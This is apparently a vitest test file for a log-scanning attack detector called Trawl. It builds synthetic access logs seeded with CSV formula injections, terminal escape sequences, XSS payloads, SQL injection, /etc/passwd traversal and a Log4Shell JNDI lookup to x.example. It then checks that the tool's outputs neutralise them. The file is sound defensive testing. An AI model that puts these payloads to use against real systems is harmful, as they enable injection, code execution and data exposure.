import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { DetectionReport } from "#detections";
import { type MainOutcome, runMain } from "../run-main.testing.ts";

let folder = "";

/** What somebody writes into a log who wants more than to be seen. */
const AGENTS = [
  "=cmd|' /C calc'!A0",
  "+SUM(1,2)",
  "-2+3+cmd",
  "@SUM(A1)",
  "\t=1+1",
  '\\"=HYPERLINK(0)',
  "\u001b]0;owned\u0007\u001b[31mred\u001b[2J",
  "\u009b31mC1\u0085",
  "\u202etxt.exe\u2066",
  "<img src=x onerror=alert(1)>",
  "</script><script>alert(1)</script><!--",
  "sqlmap/1.7 --><svg/onload=alert(1)>",
];
const CLIENT = "203.0.113.66";

function line(second: number, request: string, agent: string, client: string = CLIENT): string {
  const time = new Date(Date.UTC(2026, 9, 1, 12) + second * 1000).toISOString().slice(11, 19);
  return `${client} - - [01/Oct/2026:${time} +0000] "GET ${request} HTTP/1.1" 404 153 "-" "${agent}"\n`;
}

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "trawl-hostile-"));
  const agents = AGENTS.map((agent, index) =>
    line(index, `/?q=${encodeURIComponent(agent)}%27+union+select+1,2--`, agent, `203.0.113.${index + 1}`),
  );
  // The agent itself is what the rule shows.
  const shown = AGENTS.map((agent, index) =>
    line(
      60 + index,
      "/index.php",
      `${agent} ${"$"}{jndi:ldap://x.example/${agent}}`,
      `203.0.113.${index + 1}`,
    ),
  );
  const names = line(200, "/index.php?x=../../etc/passwd", "x", "=cmd|x");
  await writeFile(join(folder, "hostile.log"), `${agents.join("")}${shown.join("")}${names}`);
});
afterAll(() => rm(folder, { recursive: true }));

function detect(isTerminal: boolean, file: string, ...more: readonly string[]): Promise<MainOutcome> {
  const environment = isTerminal ? { FORCE_COLOR: "1" } : {};
  return runMain(["detect", file, ...more], { folder, isTerminal, environment });
}

/** What steers a terminal, without the colours and the cleared line that are Trawl's own. */
function steering(text: string): readonly string[] {
  const own = ["0", "1;31", "1;33", "34"].map((code) => `\u001b[${code}m`);
  const foreign = [...own, "\r\u001b[K"].reduce((rest, one) => rest.replaceAll(one, ""), text);
  return foreign.match(/[^\P{Cc}\n]|[\u2028-\u202e\u2066-\u2069]/gu) ?? [];
}

describe("what somebody wrote into a log", () => {
  test.each([
    [[]],
    [["--findings"]],
    [["--matches"]],
    [["--format", "json"]],
    [["--incident", "ctim"]],
    [["--incident", "stix"]],
    [["--incident", "misp"]],
  ])("steers no terminal and no reader of a pipe: %j", async (options) => {
    for (const isTerminal of [true, false]) {
      const { stdout, stderr, exitCode } = await detect(isTerminal, "hostile.log", ...options);
      expect(exitCode).toBe(0);
      expect(stdout.length).toBeGreaterThan(100);
      expect([steering(stdout), steering(stderr)]).toEqual([[], []]);
      expect(stdout.includes("\u001b[1;31mhigh")).toBe(isTerminal && options.length === 0);
      expect(stdout).not.toContain("\\x1B[1;31m");
    }
  });

  test("is no formula to a spreadsheet", async () => {
    const { stdout, stderr } = await detect(false, "hostile.log", "--format", "csv");
    expect(steering(stdout.replaceAll("\r\n", "\n"))).toEqual([]);
    expect(steering(stderr)).toEqual([]);
    const [head = [], ...rows] = readCsv(stdout);
    expect(head.slice(0, 3)).toEqual(["severity", "client", "rule"]);
    expect(rows.length).toBeGreaterThan(AGENTS.length);
    expect(new Set(rows.map(({ length }) => length))).toEqual(new Set([head.length]));
    expect(rows.flat().filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
    // An apostrophe stands where one is needed, and nowhere else.
    const guarded = rows.flat().filter((cell) => cell.startsWith("'"));
    expect(guarded).toContain("'=cmd|x");
    expect(guarded.filter((cell) => !/^'\s*[=+\-@]/.test(cell))).toEqual([]);
  });

  test("is no markup in the page", async () => {
    await detect(false, "hostile.log", "--report", "hostile.html");
    const page = await readFile(join(folder, "hostile.html"), "utf8");
    expect(page).not.toMatch(/<img|<svg\/|onerror=alert\(1\)>|<script>alert|-->/i);
    expect(page.match(/<script/g)?.length).toBe(3);
    expect(steering(page.replace(/<script>[\s\S]*?<\/script>/g, ""))).toEqual([]);
    const [, data = ""] = /<script type="application\/json" id="report">(.*?)<\/script>/s.exec(page) ?? [];
    expect(JSON.stringify(JSON.parse(data))).toContain("onerror=alert(1)");
  });
});

describe("a log", () => {
  test("in which every line is an attack is told in bounded space", async () => {
    const lines = Array.from({ length: 5_000 }, (_, index) =>
      line(index, `/?id=${index}%27+union+select+1,2--&f=../../../../etc/passwd`, AGENTS[11] ?? ""),
    );
    await writeFile(join(folder, "all.log"), lines.join(""));
    const { stdout } = await detect(false, "all.log", "--format", "json");
    const { account, findings, stories }: DetectionReport = JSON.parse(stdout);
    expect(account.records).toBe(5_000);
    expect(stories.map(({ client }) => client)).toEqual([CLIENT]);
    expect(findings.find(({ ruleId }) => ruleId === "sqli-union-select")?.count).toBe(5_000);
    expect(stdout.length).toBeLessThan(1_000_000);
  }, 60_000);

  test("that begins with a line of a megabyte is known, and what attacks in such lines and behind them is found", async () => {
    const long = "a".repeat(1 << 20);
    const lines = [
      line(1, `/?q=${long}%27+union+select+1,2--`, "x"),
      line(2, "/?q=1%27+union+select+1,2--", "x", "203.0.113.72"),
    ];
    await writeFile(join(folder, "long.log"), lines.join(""));
    const { stdout } = await detect(false, "long.log", "--format", "json");
    const { account, findings }: DetectionReport = JSON.parse(stdout);
    const [first = ""] = lines;
    expect(account).toMatchObject({ records: 1, bytes: lines.join("").length, unmatchedBytes: first.length });
    const attackers = findings
      .filter(({ ruleId }) => ruleId === "sqli-union-select")
      .map(({ client }) => client);
    expect([...attackers].sort()).toEqual(["203.0.113.72", null]);
    const kept = findings.flatMap(({ evidence }) => evidence.map(({ rawText }) => rawText.length));
    expect(Math.max(...kept)).toBe(4096);
    expect(stdout.length).toBeLessThan(100_000);
  }, 60_000);
});

/** Cells of lines by RFC 4180. */
function readCsv(text: string): readonly (readonly string[])[] {
  return text
    .split("\r\n")
    .slice(0, -1)
    .map((row) =>
      [...row.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(
        ([, quoted, plain = ""]) => quoted?.replaceAll('""', '"') ?? plain,
      ),
    );
}
